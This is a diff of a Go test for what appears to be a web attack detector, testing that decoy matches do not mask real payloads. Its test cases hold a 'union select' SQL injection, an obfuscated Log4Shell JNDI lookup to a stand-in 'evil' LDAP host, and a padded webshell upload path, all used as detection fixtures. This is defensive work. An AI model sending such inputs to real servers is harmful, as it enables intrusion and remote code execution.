@@ -10,7 +10,7 @@ import (
 // Decoy matches of a confirmed pattern must not use up the confirm checks
 // and hide a real payload further on, in the same field or another.
 func TestConfirmDecoys(t *testing.T) {
-	pad := strings.Repeat("a", 3*confirmSpan)
+	pad := strings.Repeat("a", 3<<10)
 	decoys := strings.Repeat("union/", 8)
 	tests := []struct {
 		name   string
@@ -21,7 +21,7 @@ func TestConfirmDecoys(t *testing.T) {
 		{"decoys then padding in the query", "/p?" + strings.Repeat("q=union&", 8) + "pad=" + pad + "&id=1+union+select+1,2", evidence.SQLInjection},
 		{"lookup decoys in the path, payload in the query", "/" + strings.Repeat("$%7Bx%7D/", 8) +
 			"?x=$%7B$%7Blower:j%7Dndi:ldap://evil/a%7D", evidence.Log4Shell},
-		{"upload padded with ./ segments", "/wp-content/uploads/" + strings.Repeat("./", confirmSpan) + "x.php", evidence.Webshell},
+		{"upload padded with ./ segments", "/wp-content/uploads/" + strings.Repeat("./", 1<<10) + "x.php", evidence.Webshell},
 	}
 	for _, tc := range tests {
 		t.Run(tc.name, func(t *testing.T) {
